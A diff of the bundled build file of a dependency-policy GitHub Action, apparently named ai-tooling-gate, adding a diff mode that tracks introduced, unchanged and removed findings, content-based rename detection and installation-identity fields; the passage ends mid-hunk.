@@ -48710,8 +48710,8 @@ __nccwpck_require__.d(__webpack_exports__, {
 
 // UNUSED EXPORTS: asToolVersion
 
-// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js + 4 modules
-var pep440 = __nccwpck_require__(99687);
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js + 1 modules
+var pep440 = __nccwpck_require__(22473);
 // EXTERNAL MODULE: ./node_modules/semver/index.js
 var semver = __nccwpck_require__(62088);
 var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
@@ -48721,8 +48721,8 @@ const claude_agent_sdk_npm_namespaceObject = /*#__PURE__*/JSON.parse('{"nB":"202
 const claude_agent_sdk_npm_changelog_namespaceObject = /*#__PURE__*/JSON.parse('{"sc":{"0.1.0":null,"0.1.3":"2.0.1","0.1.9":null,"0.1.10":"2.0.10","0.1.11":"2.0.11","0.1.12":"2.0.12","0.1.13":"2.0.13","0.1.14":"2.0.14","0.1.15":"2.0.15","0.1.16":"2.0.17","0.1.17":"2.0.18","0.1.19":"2.0.19","0.1.20":"2.0.20","0.1.21":"2.0.21","0.1.22":"2.0.22","0.1.25":"2.0.25","0.1.26":"2.0.26","0.1.27":"2.0.27","0.1.28":"2.0.28","0.1.29":"2.0.29","0.1.30":"2.0.31","0.1.31":"2.0.32","0.1.33":"2.0.33","0.1.34":"2.0.34","0.1.35":"2.0.35","0.1.36":"2.0.36","0.1.37":"2.0.37","0.1.39":"2.0.41","0.1.42":"2.0.42","0.1.43":"2.0.43","0.1.44":"2.0.44","0.1.45":"2.0.45","0.1.46":"2.0.46","0.1.47":"2.0.47","0.1.49":"2.0.49","0.1.50":"2.0.50","0.1.51":"2.0.51","0.1.52":"2.0.52","0.1.53":"2.0.53","0.1.54":"2.0.54","0.1.55":"2.0.55","0.1.56":"2.0.56","0.1.57":"2.0.57","0.1.58":"2.0.58","0.1.59":"2.0.59","0.1.60":"2.0.60","0.1.61":"2.0.61","0.1.63":"2.0.63","0.1.64":"2.0.64","0.1.65":"2.0.66","0.1.66":"2.0.66","0.1.67":"2.0.67","0.1.68":"2.0.68","0.1.69":"2.0.69","0.1.71":"2.0.71","0.1.72":"2.0.72","0.1.73":"2.0.73","0.1.74":"2.0.74","0.1.75":"2.0.75"}}');
 ;// CONCATENATED MODULE: ./src/catalog/data/claude-agent-sdk-pypi.json
 const claude_agent_sdk_pypi_namespaceObject = /*#__PURE__*/JSON.parse('{"nB":"2026-11-24","yh":{"0.0.13":null,"0.0.14":null,"0.0.16":null,"0.0.17":null,"0.0.18":null,"0.0.19":null,"0.0.22":null,"0.1.0":null,"0.1.1":null,"0.1.2":null,"0.1.3":null,"0.1.4":null,"0.1.5":null,"0.1.6":null,"0.1.7":null,"0.1.8":null,"0.1.9":"2.0.49","0.1.10":"2.0.53","0.1.11":"2.0.57","0.1.12":null,"0.1.13":"2.0.59","0.1.14":"2.0.62","0.1.15":null,"0.1.16":"2.0.68","0.1.17":"2.0.70","0.1.18":"2.0.72","0.1.19":"2.1.1","0.1.20":"2.1.9","0.1.21":"2.1.15","0.1.22":"2.1.19","0.1.23":"2.1.20","0.1.24":"2.1.22","0.1.25":"2.1.23","0.1.26":"2.1.27","0.1.27":"2.1.29","0.1.28":"2.1.30","0.1.29":"2.1.31","0.1.30":"2.1.32","0.1.31":"2.1.33","0.1.32":"2.1.36","0.1.33":"2.1.37","0.1.34":"2.1.38","0.1.35":"2.1.39","0.1.36":"2.1.42","0.1.37":"2.1.44","0.1.38":"2.1.47","0.1.39":"2.1.49","0.1.40":"2.1.51","0.1.41":"2.1.52","0.1.42":"2.1.55","0.1.43":"2.1.56","0.1.44":"2.1.59","0.1.45":"2.1.63","0.1.46":"2.1.69","0.1.47":"2.1.70","0.1.48":"2.1.71","0.1.49":"2.1.77","0.1.50":"2.1.81","0.1.51":"2.1.85","0.1.52":"2.1.87","0.1.53":"2.1.88","0.1.55":"2.1.91","0.1.56":"2.1.92","0.1.57":"2.1.96","0.1.58":"2.1.97","0.1.59":"2.1.105","0.1.60":"2.1.111","0.1.61":"2.1.112","0.1.62":"2.1.113","0.1.63":"2.1.114","0.1.64":"2.1.116","0.1.65":"2.1.118","0.1.66":"2.1.119","0.1.67":"2.1.120","0.1.68":"2.1.119","0.1.69":"2.1.121","0.1.70":"2.1.122","0.1.71":"2.1.123","0.1.72":"2.1.126","0.1.73":"2.1.128","0.1.74":"2.1.129","0.1.75":"2.1.131","0.1.76":"2.1.132","0.1.77":"2.1.133","0.1.78":"2.1.136","0.1.79":"2.1.137","0.1.80":"2.1.138","0.1.81":"2.1.139","0.2.82":"2.1.142","0.2.83":"2.1.146","0.2.84":"2.1.147","0.2.85":"2.1.148","0.2.86":"2.1.149","0.2.87":"2.1.150","0.2.88":"2.1.161","0.2.89":"2.1.162","0.2.90":"2.1.163","0.2.91":"2.1.165","0.2.92":"2.1.166","0.2.93":"2.1.167","0.2.94":"2.1.169","0.2.95":"2.1.170","0.2.96":"2.1.172","0.2.97":"2.1.173","0.2.98":"2.1.174","0.2.99":"2.1.175","0.2.100":"2.1.176","0.2.101":"2.1.177","0.2.102":"2.1.178","0.2.103":"2.1.179","0.2.104":"2.1.181","0.2.105":"2.1.183","0.2.106":"2.1.185","0.2.107":"2.1.186","0.2.108":"2.1.187","0.2.109":"2.1.190","0.2.110":"2.1.191","0.2.111":"2.1.202","0.2.112":"2.1.203","0.2.113":"2.1.204","0.2.114":"2.1.205","0.2.115":"2.1.206","0.2.116":"2.1.207","0.2.117":"2.1.208","0.2.118":"2.1.209","0.2.119":"2.1.210","0.2.120":"2.1.211","0.2.121":"2.1.212","0.2.122":"2.1.214","0.2.123":"2.1.215","0.2.124":"2.1.216","0.2.125":"2.1.217","0.2.126":"2.1.218","0.2.127":"2.1.219","0.2.128":"2.1.220","0.2.129":"2.1.221","0.2.130":"2.1.222","0.2.131":"2.1.223","0.2.132":"2.1.224","0.2.133":"2.1.225","0.2.134":"2.1.226","0.2.135":"2.1.227","0.2.136":"2.1.228","0.2.137":"2.1.229","0.2.138":"2.1.232","0.2.139":"2.1.233","0.2.140":"2.1.235","0.2.141":"2.1.236","0.2.142":"2.1.237","0.2.143":"2.1.238"}}');
-// EXTERNAL MODULE: ./src/model/versions.ts
-var versions = __nccwpck_require__(62212);
+// EXTERNAL MODULE: ./src/model/versions.ts + 1 modules
+var versions = __nccwpck_require__(74104);
 // EXTERNAL MODULE: ./src/catalog/action-tags.ts + 2 modules
 var action_tags = __nccwpck_require__(17551);
 ;// CONCATENATED MODULE: ./src/catalog/mappings.ts
@@ -49098,6 +49098,7 @@ function carriersOfRow(row, tool, where) {
         ...(row.tagPrefix !== undefined ? { tagPrefix: row.tagPrefix } : {}),
         ...(row.installs !== undefined ? { installs: row.installs } : {}),
         source: row.source,
+        versionIsToolVersion: row.version === 'same' && !row.tagPrefix,
         toolVersion: versionMapper(row, pkg, tool.versionScheme),
     }));
 }
@@ -54864,6 +54865,12 @@ async function scanDevcontainer(input) {
                 location: { file: path, line },
                 source: DEVCONTAINER_SOURCE,
                 sourceKind: 'registry',
+                // What the feature installs: one installation, judged as this package.
+                sameInstallationAs: {
+                    ecosystem: 'devcontainer-feature',
+                    name: ref.name,
+                    location: { file: path, line },
+                },
             }));
         }
         if (ref.kind === 'file') {
@@ -55403,6 +55410,8 @@ function usesOf(parsed, owner, file, out, values) {
                 ...(value.from && value.from.line !== lineOf(lines, p.keyNode) ? { versionFrom: value.from } : {}),
                 source: WORKFLOW_SOURCE,
                 sourceKind: 'registry',
+                // The action installs what its version input chose: one installation, judged at the input.
+                sameInstallationAs: { ecosystem: 'github-action', name, location: { file, line } },
             }));
         }
     }
@@ -63148,6 +63157,7 @@ function readDocument(file, doc, era, components, errors) {
                     name: c.name,
                     version: c.version,
                     kind: c.sourceKind,
+                    line: c.location.line,
                 });
             }
         }
@@ -63292,6 +63302,8 @@ function dependencyComponent(file, dep, era, lookUp, errors) {
         sourceKind: target.kind,
         alias: dep.name,
         scope,
+        // The package entry is the same installation: one finding, at the alias.
+        sameInstallationAs: { ecosystem: 'npm', name: target.name, location: { file, line: target.line } },
     });
 }
 
@@ -63960,6 +63972,332 @@ function joinHashes(files) {
 
 /***/ }),
 
+/***/ 5119:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  ZY: () => (/* binding */ classifyFindings),
+  MU: () => (/* binding */ diffInventory),
+  AZ: () => (/* binding */ findingIdentity)
+});
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(77598);
+// EXTERNAL MODULE: ./src/inventory/engine.ts + 4 modules
+var engine = __nccwpck_require__(1722);
+// EXTERNAL MODULE: ./src/inventory/flows.ts
+var flows = __nccwpck_require__(67037);
+;// CONCATENATED MODULE: ./src/diff/renames.ts
+// Renames between base and head: which head path a base file moved to, so that a move keeps its
+// findings' identity (a move introduces nothing).
+
+function hasBlobIds(s) {
+    return typeof s.blobId === 'function';
+}
+/**
+ * Adds the exact moves the known renames do not cover: a changed head file (of `headPaths`: the
+ * ones whose pairing can matter) whose content is the content a base file of `basePaths` had,
+ * where that base file is gone or changed at head.
+ * GitHub's pull-request file list calls two swapped files "modified" (it does not break rewrites
+ * as `git diff -B` does), and git does not break two similar files; their contents still pair
+ * them. Content is named by blob id where both sources have them, else by a hash of the bytes
+ * (at most `maxBytes`; a file that cannot be read pairs nothing). Each path pairs once.
+ */
+async function withExactRenames(base, head, headPaths, basePaths, known, maxBytes) {
+    const out = new Map(known);
+    const wanted = [...new Set(headPaths)].filter((p) => !out.has(p)).sort();
+    if (wanted.length === 0)
+        return out;
+    const useIds = hasBlobIds(base) && hasBlobIds(head);
+    const id = async (s, p) => {
+        try {
+            if (useIds) {
+                const v = await s.blobId(p);
+                // A link that cannot be followed is not content.
+                return v === null || v.startsWith('link:') ? null : v;
+            }
+            const bytes = await s.read(p, maxBytes);
+            return bytes === null ? null : (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
+        }
+        catch {
+            return null;
+        }
+    };
+    const takenFrom = new Set(known.values());
+    const headIds = new Map();
+    for (const p of wanted) {
+        const h = await id(head, p);
+        // A file whose content is what it was at base did not move here.
+        if (h !== null && (await id(base, p)) !== h)
+            headIds.set(p, h);
+    }
+    const wantedIds = new Set(headIds.values());
+    const baseIds = new Map();
+    for (const q of [...new Set(basePaths)].sort()) {
+        if (takenFrom.has(q))
+            continue;
+        const b = await id(base, q);
+        // A base file still there unchanged did not move (a copy is not a move).
+        if (b === null || !wantedIds.has(b) || (await id(head, q)) === b)
+            continue;
+        const list = baseIds.get(b);
+        if (list)
+            list.push(q);
+        else
+            baseIds.set(b, [q]);
+    }
+    for (const [p, h] of headIds) {
+        const from = baseIds.get(h)?.find((q) => q !== p && !takenFrom.has(q));
+        if (from === undefined)
+            continue;
+        out.set(p, from);
+        takenFrom.add(from);
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/diff/diff.ts
+// Diff mode: which findings a change introduces, keeps or removes, and which files it changes.
+
+
+
+
+/**
+ * The identity of a finding across commits: rule, carrier, version (or the spec written when the
+ * version is unknown) and file — never the line, so moving an entry is not introducing it. `file`
+ * overrides the finding's own (a head file's path at base, when the change moved it).
+ */
+function findingIdentity(f, file = f.location.file) {
+    const c = f.component;
+    return [f.ruleId, c.ecosystem, c.name, c.version === null ? `spec:${c.spec ?? ''}` : c.version, file].join('\u0000');
+}
+/**
+ * Marks each head finding `introduced` (no finding of the same identity at base) or `unchanged`,
+ * and adds each base finding with no counterpart at head as `removed`. Identities are counted, so
+ * a second copy of an existing finding in the same file is introduced. A head finding in a file
+ * the change moved (`renames`: head path → base path) is compared with the findings of the file's
+ * base path, and says where it moved from (`movedFrom`).
+ */
+function classifyFindings(base, head, renames = new Map()) {
+    const remaining = new Map();
+    for (const f of base) {
+        const k = findingIdentity(f);
+        const list = remaining.get(k);
+        if (list)
+            list.push(f);
+        else
+            remaining.set(k, [f]);
+    }
+    const out = [];
+    for (const f of head) {
+        const from = renames.get(f.location.file);
+        const list = remaining.get(findingIdentity(f, from));
+        const status = list && list.length > 0 ? 'unchanged' : 'introduced';
+        if (list && list.length > 0)
+            list.shift();
+        out.push({ ...f, status, ...(from !== undefined ? { movedFrom: from } : {}) });
+    }
+    for (const f of base) {
+        const list = remaining.get(findingIdentity(f));
+        if (list && list.includes(f))
+            out.push({ ...f, status: 'removed' });
+    }
+    return out;
+}
+/**
+ * Detects components at head and at base, parsing each unchanged file once: a detector file is
+ * re-detected at base only when it changed or when a file it read (`DetectInput.readFile`) did.
+ * Reading the same inputs, a detector reads the same files, so the reads recorded at head are the
+ * reads it made at base for every file taken as unchanged.
+ */
+async function diffInventory(base, head, options = {}) {
+    const { changed: hint, nameFilter, parseEveryFile, renames: knownRenames, ...inventoryOptions } = options;
+    const maxBytes = options.limits?.maxFileBytes ?? 64 * 1024 * 1024;
+    const memo = new Map();
+    const isChanged = (path) => {
+        let p = memo.get(path);
+        if (!p) {
+            p = hint ? Promise.resolve(hint.has(path)) : contentDiffers(base, head, path, maxBytes);
+            memo.set(path, p);
+        }
+        return p;
+    };
+    // The text test first (one search of text already in memory), then whether the file changed:
+    // a changed file is always parsed, so that its errors fail the gate.
+    const namesCovered = (detector, text) => !nameFilter || !detector.namesInText || nameFilter.textMayName(text, detector.namesInText);
+    const headInv = await (0,engine/* inventory */.pf)(head, {
+        ...inventoryOptions,
+        ...(nameFilter && !parseEveryFile
+            ? {
+                shouldParse: async (path, detector, text) => namesCovered(detector, text) || (await isChanged(path)),
+            }
+            : {}),
+    });
+    // A file read through readFile may be one the change list does not cover (an ignored `.env`
+    // on disk in the CLI's work tree): it is compared directly as well.
+    const readMemo = new Map();
+    const isReadChanged = (path) => {
+        let p = readMemo.get(path);
+        if (!p) {
+            p = isChanged(path).then((c) => c || (hint ? contentDiffers(base, head, path, maxBytes) : false));
+            readMemo.set(path, p);
+        }
+        return p;
+    };
+    // The change list names paths as git sees them: a symlink whose target changed is not on it,
+    // nor is anything else git does not track as that path. A file it calls unchanged that holds
+    // a component the policy may match, or an error, is confirmed by its content (few files do).
+    const mayMatter = (r) => r.errors.length > 0 || r.components.some((c) => !nameFilter || nameFilter.mayMatch(c.ecosystem, c.name));
+    const dirty = new Set();
+    for (const [path, result] of headInv.byFile) {
+        if (await isChanged(path)) {
+            dirty.add(path);
+            continue;
+        }
+        if (hint && mayMatter(result) && (await contentDiffers(base, head, path, maxBytes, true))) {
+            dirty.add(path);
+            continue;
+        }
+        for (const read of result.reads) {
+            if (await isReadChanged(read)) {
+                dirty.add(path);
+                break;
+            }
+        }
+    }
+    // Detector files present at base only (deleted or renamed away): scanned at base.
+    const headFiles = new Set(headInv.files);
+    const detectorList = options.detectors;
+    const baseOnly = [];
+    const candidates = hint ? [...hint] : await base.list();
+    for (const path of candidates) {
+        if (headFiles.has(path))
+            continue;
+        if ((0,engine/* detectorsFor */.J9)(path, detectorList).length === 0)
+            continue;
+        baseOnly.push(path);
+    }
+    // Exact moves the change list does not pair, among the changed files whose pairing can matter:
+    // the ones holding a component the policy may match, or an error.
+    const pairable = new Set();
+    for (const [path, result] of headInv.byFile) {
+        if (result.errors.length > 0)
+            pairable.add(path);
+        for (const c of result.components)
+            if (!nameFilter || nameFilter.mayMatch(c.ecosystem, c.name))
+                pairable.add(c.location.file);
+    }
+    const changedPairable = [];
+    for (const p of pairable)
+        if (dirty.has(p) || (await isChanged(p)))
+            changedPairable.push(p);
+    const renames = await withExactRenames(base, head, changedPairable, hint ?? [...dirty, ...baseOnly], knownRenames ?? new Map(), maxBytes);
+    // A moved file that cannot be parsed is compared with its base path's errors, so that path is
+    // parsed at base whatever its text names.
+    const movedWithErrors = new Set();
+    for (const [path, result] of headInv.byFile) {
+        const from = renames.get(path);
+        if (from !== undefined && result.errors.length > 0)
+            movedWithErrors.add(from);
+    }
+    const toScanAtBase = [...new Set([...dirty, ...baseOnly])].sort();
+    // At base, a file that names nothing the policy covers holds no finding to compare with: its
+    // head side's findings (if any) are introduced either way.
+    const baseInv = await (0,engine/* inventory */.pf)(restrictedSource(base, toScanAtBase), {
+        ...inventoryOptions,
+        ...(nameFilter
+            ? {
+                shouldParse: (path, d, text) => namesCovered(d, text) || movedWithErrors.has(path),
+            }
+            : {}),
+    });
+    const errorKey = (file, e) => `${file}\u0000${e.line ?? 0}\u0000${e.message}`;
+    const baseErrorKeys = new Set(baseInv.errors.map((e) => errorKey(e.file, e)));
+    const baseComponents = [...baseInv.components];
+    // An unchanged file is judged on its own at base only when nothing built or ran it there: a
+    // caller added or removed by the change moves its findings between it and the caller.
+    const atBase = new Map();
+    for (const [path, result] of headInv.byFile)
+        if (!dirty.has(path))
+            atBase.set(path, result);
+    for (const [path, result] of baseInv.byFile)
+        atBase.set(path, result);
+    const droppedAtBase = (0,flows/* judgedByCallers */.lj)(atBase);
+    for (const [path, result] of headInv.byFile) {
+        if (dirty.has(path))
+            continue;
+        for (const c of (0,flows/* componentsWhere */.Qp)(result, droppedAtBase.has(path)))
+            baseComponents.push(c);
+    }
+    const headErrors = [];
+    for (const [path, result] of headInv.byFile) {
+        // A file moved with the same error it had at its base path: the error is not new.
+        const from = renames.get(path);
+        for (const e of result.errors) {
+            const fresh = dirty.has(path) && (from === undefined || !baseErrorKeys.has(errorKey(from, e)));
+            headErrors.push({ ...e, status: fresh ? 'introduced' : 'unchanged' });
+        }
+    }
+    return {
+        head: headInv,
+        baseComponents,
+        baseErrors: baseInv.errors,
+        headErrors: sortErrors(headErrors),
+        dirty: [...dirty].sort(),
+        baseFilesScanned: baseInv.filesScanned,
+        notParsed: headInv.notParsed,
+        renames,
+    };
+}
+function sortErrors(errors) {
+    return errors.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) ||
+        (a.line ?? 0) - (b.line ?? 0) ||
+        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+}
+/** A view of a source that lists only the given paths (which may not exist in it). */
+function restrictedSource(source, paths) {
+    return {
+        description: source.description,
+        list: () => Promise.resolve(paths),
+        read: (path, maxBytes) => source.read(path, maxBytes),
+    };
+}
+/**
+ * Whether a path differs between the trees: by blob id when both sources have them, else by a
+ * hash of the bytes. A path that cannot be read on a side (a symlink out of the tree, too large)
+ * counts by its error, so the same unreadable file on both sides is unchanged (it warns) while a
+ * newly unreadable one is changed (it fails closed).
+ */
+async function contentDiffers(base, head, path, maxBytes, 
+/** Only bytes count: a side that cannot be read leaves the path as the change list has it. */
+readableOnly = false) {
+    const useIds = hasBlobIds(base) && hasBlobIds(head);
+    const [a, b] = await Promise.all([
+        fingerprint(base, path, maxBytes, useIds),
+        fingerprint(head, path, maxBytes, useIds),
+    ]);
+    // The same dangling link reads as "points outside" in git and "does not exist" on disk.
+    if (readableOnly && (a.startsWith('error:') || b.startsWith('error:')))
+        return false;
+    return a !== b;
+}
+async function fingerprint(source, path, maxBytes, useIds) {
+    try {
+        if (useIds)
+            return `id:${(await source.blobId(path)) ?? 'absent'}`;
+        const bytes = await source.read(path, maxBytes);
+        return bytes === null ? 'absent' : `sha256:${(0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')}`;
+    }
+    catch (e) {
+        return `error:${e instanceof Error ? e.message : String(e)}`;
+    }
+}
+
+
+/***/ }),
+
 /***/ 26229:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
@@ -64018,6 +64356,169 @@ function gateFails(report, failOn, gatingErrors = gateErrors(report, failOn)) {
     if (failOn === 'never')
         return false;
     return gateFindings(report, failOn).length > 0 || gatingErrors.length > 0;
+}
+
+
+/***/ }),
+
+/***/ 46458:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   Eq: () => (/* binding */ resolveRelevant),
+/* harmony export */   LS: () => (/* binding */ diffScan),
+/* harmony export */   sb: () => (/* binding */ audit)
+/* harmony export */ });
+/* unused harmony export inventoryReport */
+/* harmony import */ var _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(15799);
+/* harmony import */ var _diff_diff_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(5119);
+/* harmony import */ var _inventory_engine_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(1722);
+/* harmony import */ var _model_limits_js__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(10817);
+/* harmony import */ var _policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(40572);
+/* harmony import */ var _policy_names_js__WEBPACK_IMPORTED_MODULE_7__ = __nccwpck_require__(25714);
+/* harmony import */ var _policy_relevance_js__WEBPACK_IMPORTED_MODULE_6__ = __nccwpck_require__(27245);
+/* harmony import */ var _report_js__WEBPACK_IMPORTED_MODULE_8__ = __nccwpck_require__(26229);
+/* harmony import */ var _inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__ = __nccwpck_require__(59268);
+
+
+
+
+
+
+
+
+
+/**
+ * Runs the resolver over the components some rule could match by name, and passes the others
+ * through: a look-up for a package no rule names can change no verdict, and would only cost time
+ * (and fail closed on a private package the policy does not care about).
+ */
+async function resolveRelevant(resolve, components, errors, filter) {
+    const relevant = [];
+    components.forEach((c, i) => {
+        if (filter.mayMatch(c.ecosystem, c.name))
+            relevant.push(i);
+    });
+    if (relevant.length === 0)
+        return components;
+    const resolved = await resolve(relevant.map((i) => components[i]), errors);
+    const out = [...components];
+    relevant.forEach((i, k) => (out[i] = resolved[k]));
+    return out;
+}
+/**
+ * Audit mode: every component of one tree judged against the policy. The tree is streamed file by
+ * file (`inventoryEach`), manifests first: a lockfile's components are judged as they come and let
+ * go, and of the lockfiles only the versions of names some manifest declares are remembered, to
+ * reconcile the manifests' entries at the end (`reconcileManifests`). The report is the one the
+ * whole inventory, reconciled and judged at once, gives (tested over every fixture): the findings
+ * in component order, the same count, the same errors.
+ */
+async function audit(source, options) {
+    const filter = (0,_policy_relevance_js__WEBPACK_IMPORTED_MODULE_6__/* .nameFilter */ .I)(options.policy, _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$);
+    const evaluator = (0,_policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__/* .createEvaluator */ .m$)(options.policy, {
+        catalog: _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$,
+        ...(options.now ? { now: options.now } : {}),
+        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
+    });
+    const resolverErrors = [];
+    const resolve = options.resolve;
+    // Findings by where their component sits in the whole inventory: its file, its place there.
+    const judged = [];
+    let count = 0;
+    const judge = async (entries) => {
+        let components = entries.map((e) => e.c);
+        if (resolve)
+            components = await resolveRelevant(resolve, components, resolverErrors, filter);
+        evaluator.judgeAll(components).forEach((findings, k) => {
+            if (findings.length > 0)
+                judged.push({ file: entries[k].file, index: entries[k].index, findings });
+        });
+        count += components.length;
+    };
+    // Manifest entries wait for every lockfile; their names are what the lockfiles must remember.
+    // Manifest files are handed over first, so every such name is known before any lockfile entry.
+    const manifests = [];
+    const manifestNames = new Map();
+    const locked = new _inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .LockedVersions */ .oi(manifestNames);
+    const totals = await (0,_inventory_engine_js__WEBPACK_IMPORTED_MODULE_2__/* .inventoryEach */ .U2)(source, { limits: options.limits ?? _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .defaultLimits */ .MK, first: _inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .isManifestPath */ .HS }, async (file, list) => {
+        const now = [];
+        list.forEach((c, index) => {
+            if ((0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .isManifestEntry */ .SY)(c)) {
+                manifests.push({ file, c, index });
+                const name = (0,_policy_names_js__WEBPACK_IMPORTED_MODULE_7__/* .normalizeName */ .Pc)(c.ecosystem, c.name);
+                manifestNames.set((0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .wantedKey */ .tY)(c.ecosystem, name), name);
+            }
+            else {
+                locked.note(c);
+                now.push({ file, c, index });
+            }
+        });
+        if (now.length > 0)
+            await judge(now);
+    });
+    // One resolver call for every manifest entry left: their look-ups run concurrently.
+    await judge(manifests.filter((m) => !locked.pins(m.c)));
+    judged.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.index - b.index));
+    return (0,_report_js__WEBPACK_IMPORTED_MODULE_8__/* .buildReport */ .FK)({
+        mode: 'audit',
+        findings: judged.flatMap((j) => j.findings),
+        errors: [...totals.errors, ...resolverErrors],
+        notices: evaluator.notices(),
+        filesScanned: totals.filesScanned,
+        components: count,
+        policySources: options.policy.sources,
+        ...(options.policyName ? { policyName: options.policyName } : {}),
+    });
+}
+/**
+ * Diff mode: the findings at head, each `introduced` or `unchanged` against base, plus the base
+ * findings that are gone (`removed`). One policy (the base's) judges both sides.
+ */
+async function diffScan(base, head, options) {
+    const limits = options.limits ?? _model_limits_js__WEBPACK_IMPORTED_MODULE_3__/* .defaultLimits */ .MK;
+    const filter = (0,_policy_relevance_js__WEBPACK_IMPORTED_MODULE_6__/* .nameFilter */ .I)(options.policy, _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$);
+    const d = await (0,_diff_diff_js__WEBPACK_IMPORTED_MODULE_1__/* .diffInventory */ .MU)(base, head, {
+        limits,
+        nameFilter: filter,
+        ...(options.failOn === 'any' ? { parseEveryFile: true } : {}),
+        ...(options.changed ? { changed: options.changed } : {}),
+        ...(options.renames ? { renames: options.renames } : {}),
+        ...(options.detectors ? { detectors: options.detectors } : {}),
+    });
+    let headComponents = (0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .reconcileManifests */ .fU)(d.head.components);
+    let baseComponents = (0,_inventory_reconcile_js__WEBPACK_IMPORTED_MODULE_5__/* .reconcileManifests */ .fU)(d.baseComponents);
+    if (options.resolve) {
+        headComponents = await resolveRelevant(options.resolve, headComponents, d.head.errors, filter);
+        baseComponents = await resolveRelevant(options.resolve, baseComponents, d.baseErrors, filter);
+    }
+    const evalOptions = {
+        catalog: _catalog_index_js__WEBPACK_IMPORTED_MODULE_0__/* .catalog */ .U$,
+        ...(options.now ? { now: options.now } : {}),
+        ...(options.pathPrefix ? { pathPrefix: options.pathPrefix } : {}),
+    };
+    const atHead = (0,_policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__/* .evaluate */ ._3)(headComponents, options.policy, evalOptions);
+    const atBase = (0,_policy_evaluate_js__WEBPACK_IMPORTED_MODULE_4__/* .evaluate */ ._3)(baseComponents, options.policy, evalOptions);
+    return (0,_report_js__WEBPACK_IMPORTED_MODULE_8__/* .buildReport */ .FK)({
+        mode: 'diff',
+        findings: (0,_diff_diff_js__WEBPACK_IMPORTED_MODULE_1__/* .classifyFindings */ .ZY)(atBase.findings, atHead.findings, d.renames),
+        errors: d.headErrors,
+        notices: [...(options.notices ?? []), ...atHead.notices],
+        diff: { base: base.description, head: head.description, baseErrors: d.baseErrors },
+        filesScanned: d.head.filesScanned,
+        components: headComponents.length,
+        unchangedNotParsed: d.notParsed,
+        policySources: options.policy.sources,
+        ...(options.policyName ? { policyName: options.policyName } : {}),
+    });
+}
+function inventoryReport(inv) {
+    return {
+        schemaVersion: 1,
+        components: inv.components,
+        errors: inv.errors,
+        summary: { filesScanned: inv.filesScanned, components: inv.components.length },
+    };
 }
 
 
@@ -64831,7 +65332,7 @@ function componentsWhere(r, dropped) {
 /* harmony export */   oi: () => (/* binding */ LockedVersions),
 /* harmony export */   tY: () => (/* binding */ wantedKey)
 /* harmony export */ });
-/* harmony import */ var _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(99687);
+/* harmony import */ var _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(22473);
 /* harmony import */ var semver__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(62088);
 /* harmony import */ var semver__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__nccwpck_require__.n(semver__WEBPACK_IMPORTED_MODULE_1__);
 /* harmony import */ var _detectors_index_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(57416);
@@ -65047,19 +65548,224 @@ const PROJECT_URL = 'https://github.com/ai-tooling-gate/ai-tooling-gate';
 
 /***/ }),
 
-/***/ 62212:
+/***/ 74104:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   Kw: () => (/* binding */ versionSatisfies),
-/* harmony export */   i8: () => (/* binding */ validateRange),
-/* harmony export */   jj: () => (/* binding */ lowerBoundIn),
-/* harmony export */   l7: () => (/* binding */ releaseOf),
-/* harmony export */   rS: () => (/* binding */ syntaxOf)
-/* harmony export */ });
-/* harmony import */ var _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(99687);
-/* harmony import */ var semver__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(62088);
-/* harmony import */ var semver__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__nccwpck_require__.n(semver__WEBPACK_IMPORTED_MODULE_1__);
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  jj: () => (/* binding */ lowerBoundIn),
+  CG: () => (/* binding */ rangeAgainst),
+  l7: () => (/* binding */ releaseOf),
+  BP: () => (/* binding */ specRange),
